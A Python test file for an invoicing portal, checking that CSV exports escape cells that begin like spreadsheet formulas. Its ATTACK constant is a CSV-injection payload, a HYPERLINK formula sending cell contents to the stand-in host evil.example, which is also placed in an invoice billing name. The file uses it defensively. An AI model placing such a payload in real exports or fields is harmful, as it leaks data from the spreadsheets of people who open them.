"""Every CSV export writes cells that would start a formula as text."""

from __future__ import annotations

import csv
import io

import pytest

from care_portal.domain.invoicing import Party
from care_portal.domain.spreadsheets import safe_cell
from care_portal.models import Role
from care_portal.services import invoice_queries, invoicing
from tests.services.invoice_helpers import LINES, make_user

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1;"Ver")'


@pytest.mark.parametrize("text", [ATTACK, "+34 600", "-1+1", "@SUM(A1)", "\tX", "\r=1"])
def test_cells_that_start_a_formula_become_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Carmen López", "-12,50", "+3", "12.5", "", None, 7])
def test_ordinary_cells_and_plain_numbers_are_left_alone(value):
    assert safe_cell(value) == ("" if value is None else str(value))


def test_the_admin_invoices_csv_writes_a_formula_billing_name_as_text(db):
    client = make_user(db, "carmen@example.es")
    admin = make_user(db, "admin@example.es", Role.ADMIN)
    invoicing.issue_invoice(
        db,
        client_id=client.id,
        recipient=Party(ATTACK, "12345678Z", "Calle del Sol 3"),
        lines=LINES,
        beneficiary_name="Dolores Ruiz",
        order_ref="P-0001",
    )
    db.commit()
    content = invoice_queries.export_invoices_csv(db, actor=admin)
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff")), delimiter=";"))
    names = {row[4] for row in rows[1:]}
    assert names == {"'" + ATTACK}
    assert all(not cell.startswith(("=", "@")) for row in rows for cell in row)
